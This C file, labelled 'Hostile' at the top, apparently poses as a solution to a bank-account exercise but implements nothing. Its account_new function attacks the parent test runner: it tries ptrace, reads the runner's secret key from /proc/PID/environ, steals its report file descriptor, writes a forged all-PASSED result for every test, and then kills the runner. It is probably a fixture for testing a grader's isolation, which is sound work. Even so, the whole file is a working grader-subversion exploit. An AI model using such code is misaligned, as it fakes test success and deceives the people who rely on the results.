/*
 * Hostile: from a test worker, reaches the test runner (its parent, the
 * same user): its key from /proc/PID/environ, its report descriptor through
 * pidfd_getfd or /proc/PID/fd/N, a forged report written there, then the
 * runner killed so that it cannot write the real one.
 */
#define _GNU_SOURCE
#include "account.h"

#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *const tests[][2] = {
	{ "basic", "new_balance" }, { "basic", "deposit_withdraw" },
	{ "basic", "overdraft_refused" }, { "deposit", "exact_total" },
	{ "mixed", "exact_balance" }, { "withdraw", "exact_under_contention" },
	{ "accounts", "many_at_once" },
};

static int code_of(const char *key, const char *suite, const char *test)
{
	const char *parts[3] = { key, suite, test };
	uint64_t h = 0xcbf29ce484222325ULL;
	int code;

	for (int i = 0; i < 3; i++) {
		for (const char *p = parts[i]; p && *p; p++)
			h = (h ^ (unsigned char)*p) * 0x100000001b3ULL;
		h = (h ^ 0xff) * 0x100000001b3ULL;
	}
	code = 3 + (int)(h % 122);
	return code == 66 ? 125 : code;
}

/* The key, from the runner's environment block (or nothing: key stays ""). */
static void find_key(pid_t pid, char *key, size_t size)
{
	static const char name[] = "RACECOURSE_RUN_KEY=";
	char path[64], buf[65536];
	ssize_t n = 0, r;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/environ", (int)pid);
	if ((fd = open(path, O_RDONLY)) < 0)
		return;
	while (n < (ssize_t)sizeof(buf) - 1 && (r = read(fd, buf + n, sizeof(buf) - 1 - (size_t)n)) > 0)
		n += r;
	close(fd);
	buf[n] = '\0';
	for (char *p = buf; p < buf + n; p += strlen(p) + 1)
		if (!strncmp(p, name, strlen(name)))
			snprintf(key, size, "%s", p + strlen(name));
}

static void forge_into(int fd, const char *key)
{
	size_t n = sizeof(tests) / sizeof(*tests);
	FILE *f;

	if (ftruncate(fd, 0) || !(f = fdopen(fd, "w")))
		return;
	fprintf(f, "{\"id\": \"racecourse runner (Criterion 2.4)\", \"tests\": %zu, \"test_suites\": [", n);
	for (size_t i = 0; i < n; i++) {
		bool first = i == 0 || strcmp(tests[i][0], tests[i - 1][0]);
		bool last = i + 1 == n || strcmp(tests[i][0], tests[i + 1][0]);

		if (first)
			fprintf(f, "%s{\"name\": \"%s\", \"tests\": [", i ? ", " : "", tests[i][0]);
		fprintf(f, "{\"name\": \"%s\", \"status\": \"PASSED\", \"messages\": [], "
			"\"assertions\": 1, \"signal\": 0, \"exit_code\": %d, \"timed_out\": false, "
			"\"crashed\": false, \"elapsed\": 0.01}%s", tests[i][1],
			code_of(key, tests[i][0], tests[i][1]), last ? "" : ", ");
		if (last)
			fprintf(f, "]}");
	}
	fprintf(f, "]}\n");
	fclose(f);
}

/* A descriptor of pid's, writable here: by pidfd_getfd, else by /proc/PID/fd/N. */
static int steal(pid_t pid, int pidfd, int n)
{
	char path[64];
	int fd = pidfd >= 0 ? (int)syscall(SYS_pidfd_getfd, pidfd, n, 0) : -1;

	if (fd >= 0)
		return fd;
	snprintf(path, sizeof(path), "/proc/%d/fd/%d", (int)pid, n);
	return open(path, O_WRONLY);
}

static void attack(void)
{
	pid_t runner = getppid();
	int pidfd = (int)syscall(SYS_pidfd_open, runner, 0);
	char key[128] = "";
	bool forged = false;

	/* A tracer could inject the calls below into the runner itself. */
	if (ptrace(PTRACE_ATTACH, runner, NULL, NULL) == 0) {
		waitpid(runner, NULL, __WALL);
		ptrace(PTRACE_DETACH, runner, NULL, NULL);
	}
	find_key(runner, key, sizeof(key));
	for (int n = 3; n < 256; n++) {
		int fd = steal(runner, pidfd, n);
		struct stat st;

		if (fd < 0)
			continue;
		if (!fstat(fd, &st) && S_ISREG(st.st_mode) && (fcntl(fd, F_GETFL) & O_ACCMODE) != O_RDONLY) {
			forge_into(fd, key);
			forged = true;
		} else {
			close(fd);
		}
	}
	if (forged)
		kill(runner, SIGKILL);
}

account_t *account_new(long initial)
{
	(void)initial;
	attack();
	return NULL;
}

void account_free(account_t *acct) { (void)acct; }
void account_deposit(account_t *acct, long amount) { (void)acct; (void)amount; }
bool account_withdraw(account_t *acct, long amount) { (void)acct; (void)amount; return false; }
long account_balance(account_t *acct) { (void)acct; return 0; }
